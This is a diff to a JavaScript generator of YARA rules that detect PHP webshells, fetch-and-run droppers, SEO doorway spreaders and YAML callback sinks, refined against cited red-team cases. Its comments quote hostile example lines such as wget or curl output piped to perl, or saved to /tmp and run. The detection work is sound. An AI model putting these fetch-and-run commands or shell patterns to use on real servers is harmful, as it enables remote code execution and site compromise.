@@ -41,9 +41,14 @@ const TOOLKIT = String.raw`    $c1 = "php_uname" nocase
 /** The strings the two register_globals rules share: the form's field, the command run, the field set by the script, a parameter of that name. */
 const REGISTER_GLOBALS = {
   field: String.raw`$f = /name\s*=\s*\\?["']?(command|cmd|exec|execute)\\?["'>\s]/ nocase`,
-  // (or the field in a ternary on its own isset: passthru(isset($command) ? $command : 'id'), red team S35B)
-  run: String.raw`$s = /\b(system|passthru|shell_exec|exec|popen)\s*\(\s*(stripslashes\s*\(\s*)?(isset\s*\(\s*\$(command|cmd|exec|execute)\s*\)\s*\?\s*)?\$(command|cmd|exec|execute)\s*[,).:]/ nocase`,
-  set: String.raw`$set = /\$(command|cmd|exec|execute)\s*=[^=]|\bas\s+(\$\w{1,40}\s*=>\s*)?\$(command|cmd|exec|execute)\b|\blist\s*\([^)]{0,200}\$(command|cmd|exec|execute)\b|\bglobal\s[^;]{0,200}\$(command|cmd|exec|execute)\b/ nocase`,
+  // (or the field in a ternary on its own isset or emptiness, or before ??: passthru(isset($command) ? $command : 'id'),
+  // red team S35B, S36A-30, -31; through one wrapper, with @, in a double-quoted literal, or to proc_open: S36A-32 to -38)
+  run: String.raw`$s = /\b(system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*@?\s*((stripslashes|trim|urldecode|rawurldecode|base64_decode|escapeshellcmd|html_entity_decode)\s*\(\s*@?\s*)?((isset|!\s*empty)\s*\(\s*\$(command|cmd|exec|execute)\s*\)\s*\?\s*)?"?\{?\$(command|cmd|exec|execute)\}?\s*([,).:"}]|\?\?|2>)|\x60\s*\$(command|cmd|exec|execute)\s*\x60/ nocase`,
+  // (a list's or an array's destructuring sets it too, [$cmd, $label] = ..., foreach (.. as $k => [$command, $title]):
+  // red team S36A-22, -23)
+  set: String.raw`$set = /\$(command|cmd|exec|execute)\s*=[^=]|\bas\s+[^)]{0,100}\$(command|cmd|exec|execute)\b|\blist\s*\([^)]{0,200}\$(command|cmd|exec|execute)\b|\[[^\]=;]{0,100}\$(command|cmd|exec|execute)\s*(,[^\]=;]{0,100})?\]\s*=[^=>]|\bglobal\s[^;]{0,200}\$(command|cmd|exec|execute)\b/ nocase`,
+  // (but a variable given itself unquoted is still the field's: $cmd = stripslashes($cmd);, the magic_quotes habit, S36A-40)
+  self: String.raw`$self = /\$(command|cmd|exec|execute)\s*=\s*(stripslashes|trim|urldecode|rawurldecode)\s*\(\s*\$(command|cmd|exec|execute)\s*\)\s*;/ nocase`,
   param: String.raw`$param = /\bfunction\s+&?\w{1,60}\s*\([^)]{0,200}\$(command|cmd|exec|execute)\b/ nocase`,
 };
 
@@ -321,6 +326,7 @@ rule mamori_php_register_globals_shell {
     // (appending, $command .= ' 2>&1', keeps the field's value: only a plain "=" sets it; and a loop's or a
     // list's variable is set too)
     ${REGISTER_GLOBALS.set}
+    ${REGISTER_GLOBALS.self}
     // (but a default given only when the field is empty is the field's: if ($cmd == "") $cmd = 'dir';, session 35 set H10)
     $default = /\bif\s*\(\s*(\$(command|cmd|exec|execute)\s*==\s*["']["']|empty\s*\(\s*\$(command|cmd|exec|execute)\s*\)|!\s*isset\s*\(\s*\$(command|cmd|exec|execute)\s*\))\s*\)\s*\{?\s*\$(command|cmd|exec|execute)\s*=[^=]/ nocase
     // (a page checking the field against a list of its own runs only those: red team S35B-8)
@@ -329,7 +335,7 @@ rule mamori_php_register_globals_shell {
     // (a function given the variable as a parameter may be handed anything: mamori_php_register_globals_param)
     ${REGISTER_GLOBALS.param}
   condition:
-    $f and $s and (not $set or (#set == 1 and $default)) and not $param and not $check and filesize < 64KB
+    $f and $s and (not $set or #set == #self or (#set == #self + 1 and $default)) and not $param and not $check and filesize < 64KB
 }
 
 rule mamori_php_register_globals_param {
@@ -341,9 +347,10 @@ rule mamori_php_register_globals_param {
     ${REGISTER_GLOBALS.field}
     ${REGISTER_GLOBALS.run}
     ${REGISTER_GLOBALS.set}
+    ${REGISTER_GLOBALS.self}
     ${REGISTER_GLOBALS.param}
   condition:
-    $f and $s and not $set and $param and filesize < 64KB
+    $f and $s and (not $set or #set == #self) and $param and filesize < 64KB
 }
 
 rule mamori_php_temp_include {
@@ -749,34 +756,47 @@ rule mamori_php_shell_fetch_run {
   meta:
     score = 80
     technique = "dropper"
-    description = "a shell command that downloads a script and runs it (wget or curl piped to perl or sh, or saved and run): the script is whatever that server sends"
+    description = "a shell command that downloads a script and runs it (wget or curl piped to an interpreter that reads its program from the pipe, or saved to a temporary folder and run from there): the script is whatever that server sends"
   strings:
-    // (in a literal handed to a command function, or in backticks; held-out set H14: system("wget -O - host/x |perl"),
-    // system("wget -O /tmp/b host/b; perl /tmp/b"))
-    $pipe = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*["'][^"'\n]{0,200}\b(curl|wget|lwp-download|fetch)\b[^"'\n|;&]{0,300}\|\s*(sudo\s+)?(perl|sh|bash|dash|zsh|ksh|python[23]?|php|ruby)\b/ nocase
-    $then = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*["'][^"'\n]{0,200}\b(curl|wget|lwp-download)\b[^"'\n]{0,300}(;|&&|\|\|)\s*(sudo\s+)?(perl|sh|bash|dash|python[23]?|php|ruby|\.\/)[^"'\n]{0,40}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/ nocase
-    $tick = /\x60[^\x60\n]{0,200}\b(curl|wget|lwp-download)\b[^\x60\n|;&]{0,300}\|\s*(sudo\s+)?(perl|sh|bash|dash|python[23]?|php|ruby)\b/ nocase
-    // (Composer's installer, piped to php as its instructions say, is not a dropper)
-    $composer = /getcomposer\.org\/installer/ nocase
+    // (handed to a command function, or kept in a variable first, red team S36A-46: the interpreter last, reading its
+    // program from the pipe, not a filter given a program of its own, '| python3 -m json.tool', '| php import.php',
+    // S36A-8, -9; the literal may quote the address, or be joined from pieces, S36A-47 to -50; held-out set H14:
+    // system("wget -O - host/x |perl"))
+    $pipe = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*[^;\n]{0,200}\b(curl|wget|lwp-download|lwp-request|lynx\s+-source|links\s+-source)\b[^;|\n]{0,300}\|\s*(sudo(\s+-\w+)*\s+)?((\/usr)?(\/local)?\/bin\/)?(perl|sh|bash|dash|zsh|ksh|python[23]?|php|ruby)\s*(-s|-)?\s*(2>&1\s*)?&?\s*\\?["']/ nocase
+    $held = /\$\w{1,40}\s*=\s*[^;\n]{0,200}\b(curl|wget|lwp-download|lwp-request|lynx\s+-source|links\s+-source)\b[^;|\n]{0,300}\|\s*(sudo(\s+-\w+)*\s+)?((\/usr)?(\/local)?\/bin\/)?(perl|sh|bash|dash|zsh|ksh|python[23]?|php|ruby)\s*(-s|-)?\s*(2>&1\s*)?&?\s*\\?["']\s*;/ nocase
+    $runs = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*\$/ nocase
+    // (the same from an https address: an installer a vendor documents, 'curl -fsSL https://.../install.sh | bash',
+    // S36A-15; counted apart, and only the others judged)
+    $pipes = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*[^;\n]{0,200}\b(curl|wget)\b[^;|\n]{0,100}https:\/\/[^;|\n]{0,300}\|\s*(sudo(\s+-\w+)*\s+)?((\/usr)?(\/local)?\/bin\/)?(perl|sh|bash|dash|zsh|ksh|python[23]?|php|ruby)\s*(-s|-)?\s*(2>&1\s*)?&?\s*\\?["']/ nocase
+    // (saved, then run from a temporary folder by an interpreter or as itself: the program is the temporary file, not a
+    // script of the application's given it as data, S36A-10 to -12; with chmod, nohup, S36A-58, -59; H14: "wget -O /tmp/b
+    // host/b; perl /tmp/b")
+    $then = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*[^;\n]{0,200}\b(curl|wget|lwp-download)\b[^"'\n]{0,300}(;|&&|\|\|)\s*(nohup\s+|setsid\s+)?(sudo\s+)?((perl|sh|bash|dash|python[23]?|php|ruby)\s+)?(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[\w.\/-]{1,100}\s*(;|&|\\?["'])/ nocase
+    // (or fetched into the temporary folder it moved to first, cd /tmp; wget host/b.txt; perl b.txt: S36A-57)
+    $cdtmp = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*[^;\n]{0,200}\bcd\s+(\/tmp|\/var\/tmp|\/dev\/shm)\/?\s*(;|&&)[^"'\n]{0,200}\b(curl|wget|lwp-download)\b[^"'\n]{0,300}(;|&&)\s*(nohup\s+)?(perl|sh|bash|python[23]?|php|ruby)\s+[\w.-]{1,100}\s*(;|&|\\?["'])/ nocase
+    // (in backticks given to a variable, PHP's shell operator: not a template literal or a Markdown code span, S36A-13, -14)
+    $tick = /\$\w{1,40}\s*=\s*@?\x60[^\x60\n]{0,200}\b(curl|wget|lwp-download)\b[^\x60\n|;]{0,300}\|\s*(sudo\s+)?(perl|sh|bash|dash|python[23]?|php|ruby)\s*(-s|-)?\s*(2>&1\s*)?\x60/ nocase
   condition:
-    ($pipe or $then or $tick) and not $composer
+    #pipe > #pipes or ($held and $runs) or $then or $cdtmp or $tick
 }
 
 rule mamori_php_remote_page_writer {
   meta:
     score = 80
     technique = "dropper"
-    description = "index.php written with what a server named in the file sends for this site's host name (an SEO doorway spreader: that server writes PHP that runs here)"
+    description = "index.php written into folder after folder with what a server named in the file sends for this site's host name (an SEO doorway spreader: that server writes PHP that runs here)"
   strings:
-    $srv = /\$\w{1,40}\s*=\s*["']https?:\/\/[a-z0-9.-]{3,100}\/?["']\s*;/ nocase
-    $fetch = /\b(file_get_contents|curl_exec|fopen)\s*\(\s*\$\w{1,40}/ nocase
-    $host = /\$_SERVER\s*\[\s*["'](HTTP_HOST|SERVER_NAME)["']\s*\]/
-    // (opened to write, or handed to a writer of the file's with a variable)
-    $open = /\bfopen\s*\(\s*["'](\.\/)?index\.php["']\s*,\s*["'][wax]/ nocase
-    $put = /\b\w{1,40}\s*\(\s*["'](\.\/)?index\.php["']\s*,\s*\$\w{1,40}\s*[,)]/ nocase
+    // (a host, a port and a path: red team S36A-61, -62)
+    $srv = /\$\w{1,40}\s*=\s*["']https?:\/\/[a-z0-9.-]{3,100}(:\d{1,5})?(\/[^"'\s]{0,200})?["']\s*;/ nocase
+    $fetch = /\b(file_get_contents|curl_exec|fopen)\s*\(\s*["']?\{?\$\w{1,40}/ nocase
+    $host = /\$_SERVER\s*\[\s*["'](HTTP_HOST|SERVER_NAME)["']\s*\]|\bgetenv\s*\(\s*["']HTTP_HOST["']\s*\)/
+    // (index.php written in a folder the code names by a variable, '$dir . "/index.php"': the spread; one index.php
+    // replaced by what a vendor's server sends is what a single-file application's updater does, S36A-16)
+    $spread = /\b(fopen|file_put_contents|\w{0,30}(write|save|put)\w{0,30})\s*\(\s*\$\w{1,40}(\s*\[[^\]]{1,40}\])?\s*\.\s*["'][\/\\]index\.php["']/ nocase
+    $dirs = /\b(mkdir|glob|scandir|opendir)\s*\(/ nocase
     $file = /\b(fwrite|fputs|file_put_contents)\s*\(/ nocase
   condition:
-    $srv and $fetch and $host and ($open or $put) and $file and filesize < 256KB
+    $srv and $fetch and $host and $spread and $dirs and $file and filesize < 256KB
 }
 
 rule mamori_php_request_chmod {
@@ -1148,9 +1168,11 @@ rule mamori_php_handler_callback_sink {
     // bracket before the array's own, or "[[[" made each start cost 300 times 300 steps, S35B-34)
     // (arguments that are calls themselves, yaml_parse(trim($doc), ...): one level of parentheses, red team S35B)
     $yaml = /\byaml_parse(_file|_url)?\s*\(([^;()\[\]]|\([^;()\[\]]{0,100}\)){0,300}(array\s*\(|\[)[^;()]{0,300}=>\s*["']\\?(assert|system|exec|passthru|shell_exec|popen|preg_replace|create_function|call_user_func(_array)?)["']/ nocase
-    // (or the callbacks kept in a variable first: a YAML tag, "!name", made a code or command function's)
-    $ycall = /\byaml_parse(_file|_url)?\s*\(/ nocase
-    $tags = /["']![\w!:\/.-]{1,60}["']\s*=>\s*["']\\?(assert|system|exec|passthru|shell_exec|popen|preg_replace|create_function|call_user_func(_array)?)["']/ nocase
+    // (or the callbacks kept in a variable first, given as the fourth argument of a document's parse, not of a file the
+    // site keeps (a build's own build.yml, red team S36A-20): a YAML tag, "!name" or "tag:...", made a code or command
+    // function's, by "=>" or by element, S36A-24, -25; not a table of chat commands beside a parse without callbacks, S36A-21)
+    $ycall = /\byaml_parse(_url)?\s*\(([^;()]|\([^;()]{0,100}\)){1,300},[^;(),]{0,100},[^;(),]{0,100},\s*\$\w{1,40}\s*\)/ nocase
+    $tags = /["'](![\w!:\/.-]{0,60}|tag:[^"'\n]{1,80})["']\s*(=>|\]\s*=)\s*["']\\?(assert|system|exec|passthru|shell_exec|popen|preg_replace|create_function|call_user_func(_array)?)["']/ nocase
     $sess = /\bsession_set_save_handler\s*\([^;()]{0,300}["']\\?(assert|system|exec|passthru|shell_exec|popen|create_function)["']\s*[,)]/ nocase
   condition:
     $yaml or $sess or ($ycall and $tags)
